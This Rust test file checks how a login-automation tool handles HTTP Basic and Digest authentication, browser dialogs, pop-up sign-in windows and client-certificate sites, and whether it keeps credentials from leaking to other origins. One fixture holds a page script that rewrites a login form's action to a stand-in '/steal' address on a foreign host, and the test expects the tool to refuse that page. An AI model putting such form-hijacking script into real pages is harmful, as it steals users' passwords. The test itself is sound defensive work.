//! Other ways in than a form on a page: HTTP authentication, dialogs of the browser, windows.

use base64::Engine;
use jarkeeper::failure::FailureClass;
use jarkeeper::renewal::How;
use jarkeeper::session::formats::{Format, export};
use md5::{Digest, Md5};

use super::{
    Ask, Desk, Fixture, PASSWORD, Reply, Running, USER, WHO, WRONG, home, page, pass, pass_with,
    refuse, shows, together,
};
use crate::support::{Keeper, run};

/// What a site says that wants HTTP authentication; without a text, as many are.
fn asks(challenge: &str, text: &str) -> Reply {
    Reply::of(401, "text/html", text).header("www-authenticate", challenge)
}

fn basic(ask: &Ask) -> Option<(String, String)> {
    let pair = ask.header("authorization").strip_prefix("Basic ")?;
    let pair = base64::engine::general_purpose::STANDARD
        .decode(pair)
        .unwrap();
    let (user, password) = std::str::from_utf8(&pair).unwrap().split_once(':').unwrap();
    Some((user.to_owned(), password.to_owned()))
}

/// Judges the credentials of one request; a refusal is a submission each time.
fn admitted(desk: &Desk, given: Option<(String, String)>) -> bool {
    given.is_some_and(
        |(user, password)| match (user.as_str(), password.as_str()) {
            (USER, PASSWORD) => true,
            (user, password) => desk.judge(user, password),
        },
    )
}

fn basic_site(text: &'static str) -> Fixture {
    Fixture::new(move |desk, ask| {
        match (
            ask.host.starts_with("127.0.0.2"),
            admitted(desk, basic(ask)),
        ) {
            (true, _) => asks("Basic realm=\"elsewhere\"", ""),
            (_, false) => asks("Basic realm=\"Notes, private\", charset=\"UTF-8\"", text),
            // A picture of another site asks for credentials too, and gets none.
            (_, true) if ask.path == "/home" => page(
                "Notes",
                &format!("Signed in as <b>{WHO}</b><img src=%FOREIGN%/x.png>"),
            ),
            (_, true) => page("Not found", "<h1>There is no such page</h1>").status(404),
        }
    })
    .at("/home")
}

fn md5(text: String) -> String {
    Md5::digest(text)
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect()
}

/// Whether a Digest header is right for this nonce; `None` where there is none.
fn digest(ask: &Ask, nonce: &str) -> Option<(bool, bool)> {
    let header = ask.header("authorization").strip_prefix("Digest ")?;
    let get = |name: &str| {
        let found = header
            .split(", ")
            .find_map(|p| p.strip_prefix(name)?.strip_prefix('='));
        found.unwrap_or_default().trim_matches('"').to_owned()
    };
    let first = md5(format!("{USER}:notes:{PASSWORD}"));
    let second = md5(format!("{}:{}", ask.method, get("uri")));
    let (own, count) = (get("cnonce"), get("nc"));
    let right = md5(format!(
        "{first}:{}:{count}:{own}:auth:{second}",
        get("nonce")
    ));
    Some((
        get("response") == right && get("username") == USER,
        get("nonce") == nonce,
    ))
}

/// Each nonce is good for three requests.
fn digest_site() -> Fixture {
    Fixture::new(|desk, ask| {
        let nonce = || format!("n{}", desk.noted("nonce"));
        let ask_again = |stale: &str| {
            desk.note("nonce", &desk.fresh(""));
            desk.note("used", "0");
            asks(
                &format!(
                    "Digest realm=\"notes\", qop=\"auth\", nonce=\"{}\", opaque=\"o\"{stale}",
                    nonce()
                ),
                "Sign in",
            )
        };
        match digest(ask, &nonce()) {
            None => ask_again(""),
            Some((false, _)) => {
                desk.judge("digest", "wrong");
                ask_again("")
            }
            Some((true, fresh)) if !fresh || desk.times("used") >= 3 => ask_again(", stale=true"),
            Some((true, _)) => home(),
        }
    })
    .at("/home")
}

async fn is_in(name: &str, fixture: Fixture) -> (Running, Keeper) {
    let (running, keeper) = fixture.start("").await;
    let report = keeper.login("x").await;
    assert_eq!(report.how, How::LoggedIn, "{name}: {:?}", report.failure);
    assert_eq!(submits(&keeper), 1, "{name}");
    let url = format!("{}/home", running.desk.base);
    shows(name, &url, &keeper.state("x").unwrap()).await;
    let alive = keeper.queue.renewer().check(&"x".parse().unwrap()).await;
    assert_eq!(alive.unwrap(), Ok(()), "{name}");
    let elsewhere = running.desk.log().into_iter();
    for ask in elsewhere.filter(|ask| ask.host.starts_with("127.0.0.2")) {
        assert_eq!(ask.header("authorization"), "", "{name}: {ask:?}");
    }
    (running, keeper)
}

/// How often the ledger has a submission.
fn submits(keeper: &Keeper) -> usize {
    let ledger = keeper
        .queue
        .renewer()
        .files()
        .read_ledger(&"x".parse().unwrap(), None);
    String::from_utf8(ledger.unwrap())
        .unwrap()
        .matches("\"submit\"")
        .count()
}

#[test]
fn http_basic_gets_in_and_its_credentials_are_the_session() {
    run(async {
        for text in ["", "<h1>Authorization required</h1>"] {
            let (running, keeper) = is_in("basic", basic_site(text)).await;
            let state = keeper.state("x").unwrap();
            assert_eq!(state.http().len(), 1);
            assert!(!format!("{state:?} {:?}", state.http()).contains(PASSWORD));
            let url = format!("{}/home", running.desk.base).parse().unwrap();
            let header = export(&state, Format::Header, Some(&url), chrono::Utc::now()).unwrap();
            let (name, value) = header.text.trim_end().split_once(": ").unwrap();
            let client = reqwest::Client::builder().no_proxy().build().unwrap();
            let seen = client.get(url).header(name, value).send().await.unwrap();
            assert!(seen.text().await.unwrap().contains(WHO));
            let again = keeper.login("x").await;
            assert!(again.ok(), "{:?}", again.failure);
            assert_eq!(submits(&keeper), 1, "a probe is enough");
        }
    });
}

#[test]
fn http_digest_gets_in_and_a_nonce_may_grow_old() {
    run(async {
        drop(is_in("digest", digest_site()).await);
    });
}

#[test]
fn a_password_that_http_authentication_refuses_is_sent_once() {
    run(async {
        let dressed = "<h1>No</h1><img src=/logo.png><link rel=stylesheet href=/style.css>\
            <script src=/script.js></script>";
        for (name, site) in [
            ("basic", basic_site("")),
            ("basic with a page that says so", basic_site(dressed)),
            ("digest", digest_site()),
        ] {
            let (running, keeper) = site.wrong().start("").await;
            let failure = keeper.login("x").await.failure.unwrap();
            assert_eq!(
                failure.class,
                FailureClass::WrongCredentials,
                "{name}: {failure}"
            );
            assert!(!failure.message.contains(WRONG));
            assert_eq!(running.desk.submissions().len(), 1, "{name}");
            assert_eq!(submits(&keeper), 1, "{name}");
            assert_eq!(keeper.login("x").await.how, How::Held, "{name}");
            assert!(keeper.state("x").is_none());
        }
    });
}

#[test]
fn http_authentication_of_a_foreign_origin_or_an_unknown_scheme_is_refused() {
    run(async {
        let away = Fixture::new(|_, ask| match ask.host.starts_with("127.0.0.2") {
            true => asks("Basic realm=x", ""),
            false => super::to("%FOREIGN%/"),
        });
        let (running, failure) =
            super::refuses("foreign", away, FailureClass::RecipeWrong, 0).await;
        assert!(failure.message.contains("127.0.0.2"), "{failure}");
        assert!(
            running
                .desk
                .log()
                .iter()
                .all(|ask| ask.header("authorization").is_empty())
        );
        let other = Fixture::new(|_, _| asks("Negotiate", "No"));
        let (_, failure) = super::refuses("negotiate", other, FailureClass::RecipeWrong, 0).await;
        assert!(failure.message.contains("by Negotiate"), "{failure}");
    });
}

#[test]
fn credentials_of_http_authentication_do_not_follow_to_another_origin() {
    run(async {
        let site = Fixture::new(|desk, ask| {
            let foreign = ask.host.starts_with("127.0.0.2");
            match (foreign, admitted(desk, basic(ask)), ask.path.as_str()) {
                (true, _, _) => Reply::of(200, "text/javascript", ""),
                (_, false, _) => asks("Basic realm=notes", ""),
                (_, true, "/home") => page(
                    "Notes",
                    &format!(
                        "Signed in as <b>{WHO}</b><img src=/away.png><script src=/away.js></script>"
                    ),
                ),

                (_, true, path) => super::to(&format!("%FOREIGN%{path}")),
            }
        })
        .at("/home");
        let (running, _) = is_in("redirects", site).await;
        let away = |path: &str| {
            running
                .desk
                .log()
                .iter()
                .any(|ask| ask.path == path && ask.host.starts_with("127.0.0.2"))
        };
        assert!(away("/away.png") && away("/away.js"));
        let out = Fixture::new(|desk, ask| {
            match (
                ask.host.starts_with("127.0.0.2"),
                admitted(desk, basic(ask)),
            ) {
                (true, _) => page("Elsewhere", "<h1>Elsewhere</h1>"),
                (_, false) => asks("Basic realm=notes", ""),
                (_, true) => super::to("%FOREIGN%/landing"),
            }
        })
        .at("/home");
        let (running, keeper) = out.start("").await;
        keeper.login("x").await;
        let log = running.desk.log();
        let landed: Vec<_> = log
            .iter()
            .filter(|ask| ask.host.starts_with("127.0.0.2"))
            .collect();
        assert!(!landed.is_empty());
        for ask in landed {
            assert_eq!(ask.header("authorization"), "", "{ask:?}");
        }
    });
}

const FORM: &str = "<form method=post action=/login><label>Username <input name=username></label>\
    <label>Password <input name=password type=password></label><button>Log in</button></form>";

/// A usual site whose login page has this body, and whose refusal has that one.
fn site(login: &'static str, refusal: &'static str) -> Fixture {
    Fixture::new(move |desk, ask| match ask.line().as_str() {
        "GET /login" => page("Log in", login),
        "POST /login" => desk
            .enter(ask, "username", "password")
            .unwrap_or_else(|| page("Log in", refusal)),
        _ => desk.usual(ask),
    })
}

#[test]
fn dialogs_of_the_browser_are_answered_and_read() {
    let asked = "<form method=post action=/login onsubmit=\"return confirm('Another session is open. Continue?')\">\
        <label>Username <input name=username></label><label>Password <input name=password type=password></label>\
        <button>Log in</button></form>";
    let greets = "<script>alert('Welcome to Notes'); onbeforeunload = e => e.preventDefault()</script>\
        <form method=post action=/login><label>Username <input name=username></label>\
        <label>Password <input name=password type=password></label><button>Log in</button></form>";
    let told = "<form id=f><label>Username <input id=u></label><label>Password <input id=p type=password></label>\
        <button>Log in</button></form><script>f.onsubmit = async e => { e.preventDefault(); const r = await fetch('/login',\
        { method: 'POST', body: new URLSearchParams({ username: u.value, password: p.value }) });\
        if (r.redirected) location = '/home'; else alert('Wrong username or password') }</script>";
    let wrong = "<script>alert('Неверный пароль')</script><form method=post action=/login><label>Имя <input name=username></label>\
        <label>Пароль <input name=password type=password></label><button>Войти</button></form>";
    together([
        pass("confirm", site(asked, FORM)),
        pass("alert and beforeunload", site(greets, FORM)),
        pass("a script that tells by alert", site(told, FORM)),
        refuse(
            "refused by alert",
            site(told, FORM).wrong(),
            FailureClass::WrongCredentials,
            1,
        ),
        refuse(
            "refused by alert of the next page",
            site(FORM, wrong).wrong(),
            FailureClass::WrongCredentials,
            1,
        ),
    ]);
}

/// The application opens its provider in a window, which hands over and closes, or stays.
fn in_window(link: &'static str, closes: bool) -> Fixture {
    Fixture::new(move |desk, ask| match ask.line().as_str() {
        "GET /login" => page(
            "Notes",
            &format!(
                "<h1>Notes</h1>{link}<script>onmessage = async e => {{ await fetch('/redeem?code=' + e.data, {{ method: 'POST' }});\
                 location = '/home' }}</script>"
            ),
        ),
        "GET /window" => page("Provider", &FORM.replace("/login", "/window")),
        "POST /window" => match desk.judge(ask.field("username"), ask.field("password")) {
            true if closes => {
                let code = desk.fresh("c");
                desk.note("code", &code);
                page(
                    "Done",
                    &format!("<script>opener.postMessage('{code}', '*'); close()</script>"),
                )
            }
            true => {
                super::to("/home").cookie(&format!("sid={}; Path=/; HttpOnly", desk.open(USER)))
            }
            false => page(
                "Provider",
                &format!(
                    "<p class=error>Wrong password</p>{}",
                    FORM.replace("/login", "/window")
                ),
            ),
        },
        "POST /redeem"
            if ask.field("code") == desk.noted("code") && !ask.field("code").is_empty() =>
        {
            page("Done", "").cookie(&format!("sid={}; Path=/; HttpOnly", desk.open(USER)))
        }
        _ => desk.usual(ask),
    })
}

const POP_UP: &str =
    "<button onclick=\"open('%BASE%/window', 'sso', 'width=500,height=600')\">Sign in</button>";
const POP_UP_ELSEWHERE: &str =
    "<button onclick=\"open('%FOREIGN%/window', 'sso', 'width=500,height=600')\">Sign in</button>";
const NEW_TAB: &str = "<a href=/window target=_blank>Sign in</a>";

#[test]
fn a_login_in_a_new_window_is_followed() {
    together([
        pass("pop-up", in_window(POP_UP, true)),
        pass("new tab", in_window(NEW_TAB, false)),
        pass_with(
            "pop-up of an allowed origin",
            in_window(POP_UP_ELSEWHERE, true),
            "allowed_origins = [\"%FOREIGN%\"]\n",
        ),
        refuse(
            "pop-up of a foreign origin",
            in_window(POP_UP_ELSEWHERE, true),
            FailureClass::RecipeWrong,
            0,
        ),
        refuse(
            "wrong in a pop-up",
            in_window(POP_UP, true).wrong(),
            FailureClass::WrongCredentials,
            1,
        ),
    ]);
}

#[test]
fn a_password_is_kept_out_of_addresses_and_from_a_changed_action() {
    let get = "<form action=/login><label>Username <input name=username></label>\
        <label>Password <input name=password type=password></label><button>Log in</button></form>";
    let taken_over = "<form id=f><label>Username <input name=username></label>\
        <label>Password <input name=password type=password></label><button>Log in</button></form><script>f.onsubmit = async e => {\
        e.preventDefault(); await fetch('/login', { method: 'POST', body: new URLSearchParams(new FormData(f)) });\
        location = '/home' }</script>";
    let changed = "<form id=f method=post action=/login><label>Username <input name=username></label>\
        <label>Password <input name=password type=password></label><button>Log in</button></form><script>\
        f.onsubmit = () => { f.action = '%FOREIGN%/steal' }</script>";
    together([
        pass("get that a script takes over", site(taken_over, FORM)),
        refuse("get", site(get, FORM), FailureClass::RecipeWrong, 0),
        refuse(
            "changed action",
            site(changed, FORM),
            FailureClass::RecipeWrong,
            0,
        ),
    ]);
}

/// OpenSSL's server, which wants a certificate of its client; `None`, and one line on stderr, where there is none.
struct WantsCertificate(
    std::process::Child,
    String,
    #[expect(dead_code, reason = "removed on drop")] tempfile::TempDir,
);

impl WantsCertificate {
    fn start() -> Option<Self> {
        use std::io::BufRead;
        let folder = tempfile::tempdir().unwrap();
        let openssl = |line: &str| {
            let mut command = std::process::Command::new("openssl");
            command.args(line.split(' ')).current_dir(folder.path());
            command
                .stdin(std::process::Stdio::null())
                .stderr(std::process::Stdio::null());
            command
        };
        let made = openssl(
            "req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 2 -subj /CN=127.0.0.1",
        );
        let Ok(_) = { made }.stdout(std::process::Stdio::null()).status() else {
            crate::support::tools::say("openssl is not here");
            return None;
        };
        let serve = openssl(
            "s_server -accept 127.0.0.1:0 -cert cert.pem -key key.pem -Verify 1 -www -tls1_2",
        );
        let mut server = { serve }
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut lines = std::io::BufReader::new(server.stdout.take().unwrap()).lines();
        let port = lines.find_map(|line| line.unwrap().strip_prefix("ACCEPT ").map(str::to_owned));
        std::thread::spawn(move || lines.for_each(drop));
        Some(Self(server, port.unwrap(), folder))
    }
}

impl Drop for WantsCertificate {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn a_site_that_wants_a_client_certificate_says_so() {
    run(async {
        let Some(site) = WantsCertificate::start() else {
            return;
        };
        let keeper = Keeper::new();
        let recipe = format!(
            "url = \"https://{}/\"\nusername = \"{USER}\"\npassword = {{ env = \"PASSWORD\" }}\nignore_https_errors = true\n",
            site.1
        );
        keeper.env("PASSWORD", PASSWORD).recipe("x", &recipe);
        let failure = keeper.login("x").await.failure.unwrap();
        assert_eq!(failure.class, FailureClass::RecipeWrong, "{failure}");
        assert!(
            failure.message.contains("wants a client certificate"),
            "{failure}"
        );
    });
}
